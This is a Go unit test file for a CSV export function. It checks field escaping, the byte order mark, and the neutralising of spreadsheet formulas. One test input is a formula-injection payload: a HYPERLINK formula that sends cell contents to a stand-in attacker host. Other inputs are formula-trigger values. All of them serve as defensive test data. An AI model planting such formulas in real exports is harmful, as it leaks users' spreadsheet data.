package stats

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func testSheet() *Sheet {
	half := 0.5
	return &Sheet{Name: "unit", Header: []string{"key", "name", "closed", "closure_rate", "note"},
		Rows: [][]any{
			{"A", "市政<养护>&公司", 12, &half, nil},
			{"B", "环卫\x01所", 0, (*float64)(nil), "a,\"b\"\nc"},
		}}
}

func TestWriteCSV(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, testSheet()); err != nil {
		t.Fatal(err)
	}
	body, ok := strings.CutPrefix(b.String(), "\ufeff")
	if !ok {
		t.Fatal("no byte order mark")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"key", "name", "closed", "closure_rate", "note"}, {"A", "市政<养护>&公司", "12", "0.5", ""}, {"B", "环卫\x01所", "0", "", "a,\"b\"\nc"}}
	if len(recs) != 3 {
		t.Fatalf("%d records", len(recs))
	}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("record %d field %d = %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
}

// TestCSVNeutralisesFormulas: text cells that a spreadsheet would run as
// a formula get a leading apostrophe; numbers, negative ones included,
// stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	neg := -0.25
	s := &Sheet{Header: []string{"name", "n", "rate"}, Rows: [][]any{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, -3, &neg},
		{"+1", 0, nil}, {"-cmd", 0, nil}, {"@SUM(A1)", 0, nil}, {"\tx", 0, nil}, {"\rx", 0, nil}, {"a=b", 0, nil},
	}}
	var b bytes.Buffer
	if err := WriteCSV(&b, s); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "a=b"}
	for i, w := range want {
		if recs[i+1][0] != w {
			t.Errorf("row %d name = %q, want %q", i+1, recs[i+1][0], w)
		}
	}
	if recs[1][1] != "-3" || recs[1][2] != "-0.25" {
		t.Errorf("numbers changed: %q", recs[1])
	}
}
